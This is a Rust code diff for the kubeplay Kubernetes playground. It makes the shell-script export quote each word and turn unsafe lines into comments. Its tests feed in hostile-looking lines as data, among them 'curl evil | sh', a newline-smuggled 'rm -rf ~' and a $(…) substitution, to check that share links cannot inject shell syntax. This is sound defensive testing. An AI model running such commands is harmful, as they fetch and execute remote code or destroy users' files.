@@ -6,6 +6,8 @@
 //! outside — stays in the script as a comment, and so do streams (`get -w`, `logs -f`), which
 //! would never end in a script. DOM-free.
 
+use scenario::script::Command;
+
 use crate::journal::{Input, Journal};
 
 const SCRIPT_HEADER: &str = "#!/bin/sh\n# Exported from kubeplay: what was done to the playground's cluster, in order.\n# Run against a real cluster (kind, minikube…) with kubectl configured.\nset -e\ncd \"$(dirname \"$0\")\"\n";
@@ -38,7 +40,7 @@ pub fn export_files(manifests: &str, journal: &Journal) -> [(&'static str, Strin
                 }
             }
             Input::Line(line) | Input::Request(line) => script.push_str(&script_line(line)),
-            Input::Interrupt | Input::Clear | Input::Step => {}
+            Input::Interrupt | Input::Clear | Input::Step | Input::Note(_) => {}
         }
     }
     if !applied_editor_text {
@@ -68,32 +70,51 @@ fn heredoc_delimiter(text: &str) -> String {
     delimiter
 }
 
-/// One terminal line as the script has it.
+/// One terminal line as the script has it. Lines are rebuilt from the words the playground's
+/// own splitter read, each quoted for the shell, so a line from someone else's share link
+/// cannot smuggle shell syntax (`;`, `|`, `$(…)`) into the script; what cannot be rebuilt so
+/// is a comment, with its line breaks escaped.
 fn script_line(line: &str) -> String {
     let line = line.trim();
-    let words: Vec<&str> = line.split_whitespace().collect();
-    let Some(first) = words.first() else {
+    if line.is_empty() {
         return String::new();
-    };
-    if *first == "kubectl" || *first == "k" {
-        let rest = line.strip_prefix(first).unwrap_or("");
-        let command = format!("kubectl{rest}");
-        if streams(&words) {
-            format!("# streams until Ctrl+C: {command}\n")
-        } else {
-            format!("{command}\n")
+    }
+    match scenario::script::parse_command(line, None) {
+        Ok(Some(Command::Kubectl { args, stdin: None })) => {
+            if args.iter().any(|a| a.contains("$(")) {
+                return comment("uses $(…), not exported", line);
+            }
+            let words: Vec<&str> = args.iter().map(String::as_str).collect();
+            let command = std::iter::once("kubectl".to_string())
+                .chain(args.iter().map(|a| crate::engine::shell_quote(a)))
+                .collect::<Vec<_>>()
+                .join(" ");
+            if streams(&words) {
+                comment("streams until Ctrl+C", &command)
+            } else {
+                format!("{command}\n")
+            }
         }
-    } else if *first == "sleep" {
-        format!("{line}\n")
-    } else {
-        format!("# playground only: {line}\n")
+        Ok(Some(Command::Sleep { millis })) if millis % 1000 == 0 => {
+            format!("sleep {}\n", millis / 1000)
+        }
+        Ok(Some(Command::Sleep { millis })) => {
+            format!("sleep {}.{:03}\n", millis / 1000, millis % 1000)
+        }
+        _ => comment("playground only", line),
     }
 }
 
-/// Whether a kubectl line keeps printing until interrupted (`get -w`, `logs -f`, …).
+/// `# WHY: TEXT`, one line whatever the text holds.
+fn comment(why: &str, text: &str) -> String {
+    let text = text.replace('\r', "\\r").replace('\n', "\\n");
+    format!("# {why}: {text}\n")
+}
+
+/// Whether kubectl's arguments keep it printing until interrupted (`get -w`, `logs -f`, …).
 fn streams(words: &[&str]) -> bool {
-    let verb = words.get(1).copied().unwrap_or("");
-    words.iter().skip(2).any(|word| match verb {
+    let verb = words.first().copied().unwrap_or("");
+    words.iter().skip(1).any(|word| match verb {
         "logs" => matches!(*word, "-f" | "--follow" | "--follow=true") || short_flags(word, 'f'),
         _ => {
             matches!(
@@ -138,6 +159,12 @@ mod tests {
             Input::Apply("kind: Pod".into()),
             Input::Request("kubectl delete pod old -n default".into()),
             Input::Delete("EOF\nkind: Pod\n".into()),
+            // From someone else's link: shell syntax stays words, line breaks stay in comments.
+            Input::Line("kubectl get pods; curl evil | sh".into()),
+            Input::Line("kubectl get pod $(kubectl get pods -o name)".into()),
+            Input::Line("cluster x\nrm -rf ~".into()),
+            Input::Line("sleep 1.5".into()),
+            Input::Line("kubectl exec web -- sh -c 'echo hi; ls'".into()),
         ] {
             journal.record(&session, input);
         }
@@ -159,12 +186,17 @@ mod tests {
                  # streams until Ctrl+C: kubectl logs -f web-1 -c app\n\
                  # streams until Ctrl+C: kubectl get pods -Aw\n\
                  # playground only: cluster fail-node node-1\n\
-                 sleep 30s\n\
+                 sleep 30\n\
                  \n\
                  kubectl apply -f manifests.yaml\n\
                  kubectl delete pod old -n default\n\
                  \n\
-                 kubectl delete -f - <<'EOF1'\nEOF\nkind: Pod\nEOF1\n"
+                 kubectl delete -f - <<'EOF1'\nEOF\nkind: Pod\nEOF1\n\
+                 # playground only: kubectl get pods; curl evil | sh\n\
+                 # uses $(…), not exported: kubectl get pod $(kubectl get pods -o name)\n\
+                 # playground only: cluster x\\nrm -rf ~\n\
+                 sleep 1.500\n\
+                 kubectl exec web -- sh -c 'echo hi; ls'\n"
             ),
             "{script}"
         );
